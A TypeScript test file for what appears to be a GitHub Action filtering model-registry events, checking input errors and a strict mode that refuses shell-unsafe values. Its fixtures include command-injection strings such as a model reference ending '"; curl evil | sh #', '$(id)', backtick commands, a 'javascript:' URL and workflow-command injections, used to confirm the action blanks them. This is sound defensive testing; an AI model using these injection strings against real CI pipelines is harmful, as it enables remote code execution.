import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { JsonObject } from '../../src/contract/model-event.ts'
import { isSafe } from '../../src/safe-values.ts'
import { runAction } from '../support/run-action.ts'
import { aliasAdded, dispatched, modelEvent, versionLinked } from './events.ts'

describe('a step with an input that is not understood', () => {
  it.each([
    [{ 'on-mismatch': 'ignore' }, 'The input on-mismatch is ignore. Set it to continue or fail.'],
    [{ strict: 'yes' }, 'The input strict is yes. Set it to true or false.'],
    [
      { environments: 'production' },
      'Write alias=environment by comma or line - for example production=prod.',
    ],
  ])('fails for %j and says what to write', async (inputs, message) => {
    const { exit_code, stdout, outputs } = await runAction({ inputs, event: dispatched(aliasAdded) })
    expect(exit_code).toBe(1)
    expect(stdout).toContain(message)
    expect(outputs).toMatchObject({ matched: 'false', json: '{}' })
  })
})

describe('a list', () => {
  it.each(['events', 'aliases', 'models', 'stages', 'environments'])(
    'of %s that has commas but no entry fails the step: taking everything was hardly meant',
    async (name) => {
      const { exit_code, stdout, outputs } = await runAction({
        inputs: { [name]: ' ,\n,' },
        event: dispatched(aliasAdded),
      })
      expect(exit_code).toBe(1)
      expect(stdout).toContain(`::error::The input ${name} has no entry.`)
      expect(outputs).toMatchObject({ matched: 'false', artifact: '' })
    },
  )
})

describe('strict', () => {
  const hostile = 'my-team/model-registry/resnet50:v1"; curl evil | sh #'
  const linked = { ...versionLinked, change: modelEvent({ change: {} }).change }

  it('leaves a refused value empty, keeps the others, and names field, character and place', async () => {
    const event = { ...linked, model: modelEvent({ model: { reference: hostile } }).model }
    const { outputs, stdout } = await runAction({ event: dispatched(event) })
    expect(outputs).toMatchObject({
      reason: 'unsafe-value',
      artifact: '',
      model: 'resnet50',
      kind: 'version.linked',
    })
    expect(outputs['message']).toContain('The value of artifact has U+0022 at character 35.')
    expect(stdout).toContain(
      '::warning::Not matched, unsafe-value: The value of artifact has " (U+0022) at character 35.',
    )
  })

  it.each([
    ['a$(id)', 'has U+0024 at character 2'],
    ['🚀\u202ex', 'has U+1F680 at character 1'],
    ['a\u202ex', 'has U+202E at character 2'],
    ['-rf', 'begins with - U+002D'],
    ['staging ', 'begins or ends with a space U+0020'],
    ['x'.repeat(300), 'has 300 characters where 256 are allowed'],
  ])('says of the alias %j that it %s', async (alias, flaw) => {
    const event = modelEvent({ model: { reference: null, pinned: null }, change: { alias } })
    const { outputs } = await runAction({ event: dispatched(event) })
    expect(outputs['message']).toContain(`The value of alias ${flaw}.`)
    expect(outputs).toMatchObject({ matched: 'false', reason: 'unsafe-value', alias: '' })
  })

  it('never compares a value that it refused', async () => {
    const event = modelEvent({ change: { alias: '$(id)' } })
    const { outputs } = await runAction({ inputs: { aliases: '*' }, event: dispatched(event) })
    expect(outputs).toMatchObject({ matched: 'false', reason: 'unsafe-value' })
  })

  it('lets every value through when it is off', async () => {
    const event = { ...linked, model: modelEvent({ model: { reference: hostile } }).model, title: 'a -> b' }
    const { outputs } = await runAction({ inputs: { strict: 'false' }, event: dispatched(event) })
    expect(outputs).toMatchObject({ matched: 'true', artifact: hostile, title: 'a -> b' })
  })

  it('refuses all tags because of one', async () => {
    const event = modelEvent({ kind: 'tag.added', change: { tag: 'ok', tags: ['ok', '`id`'] } })
    const { outputs } = await runAction({ event: dispatched(event) })
    expect(outputs).toMatchObject({ reason: 'unsafe-value', tag: 'ok', tags: '[]' })
  })

  it('gives no link that is not plain https, and matches all the same', async () => {
    const event = modelEvent({ model: { url: 'javascript:alert(1)' } })
    const { outputs } = await runAction({ event: dispatched(event) })
    expect(outputs).toMatchObject({ matched: 'true', url: '' })
  })

  it.each(["O'Brien", 'jane"; id; echo "', '-rf', 'Jane (MLOps), Team 1', 'x'.repeat(300)])(
    'lets no name of a person stop a deployment, and gives none that a shell could read: %j',
    async (author) => {
      const { outputs, summary } = await runAction({ event: dispatched(modelEvent({ author })) })
      expect(outputs).toMatchObject({ matched: 'true', author: '', alias: 'production' })
      expect(summary).toContain('<th align="left">By</th>')
    },
  )

  it('gives nothing unsafe in any output that is not said to be unchecked', async () => {
    const value = fc.oneof(
      fc.constantFrom('$(id)', '`id`', 'a\nb', '"; id; "', "O'Brien", '##[add-mask]a', '::set-output::'),
      fc.string({ unit: 'binary', maxLength: 300 }),
    )
    const UNCHECKED = ['metadata', 'parameters', 'json', 'tags', 'url']
    await fc.assert(
      fc.asyncProperty(
        value,
        fc.constantFrom('type', 'schema', 'aliases', 'alias', 'name'),
        async (text, where) => {
          const event: JsonObject = {
            ...(modelEvent({
              title: text,
              author: text,
              source: { name: 'wandb', type: text },
              ...(where === 'type' ? { type: text } : {}),
              ...(where === 'name' ? { model: { name: text, url: text } } : {}),
              ...(where === 'alias' ? { change: { alias: text, comment: text } } : {}),
            }) as unknown as JsonObject),
            ...(where === 'schema' ? { schema: `model-dispatch/${text}` } : {}),
          }
          const inputs: Record<string, string> =
            where === 'aliases' ? { aliases: 'champion', environments: 'x=y' } : {}
          const { outputs } = await runAction({
            inputs,
            event: { action: text, client_payload: { model_event: event } },
          })
          const unsafe = Object.entries(outputs).filter(
            ([name, given]) => !UNCHECKED.includes(name) && !isSafe(given),
          )
          expect(unsafe).toEqual([])
          expect((JSON.parse(outputs['tags'] ?? '') as string[]).filter((tag) => !isSafe(tag))).toEqual([])
          expect(outputs['url']).toMatch(/^(https:[^"'$`;|&<>(){}*?\s]*)?$/)
        },
      ),
      { numRuns: 60 },
    )
  }, 60_000)
})
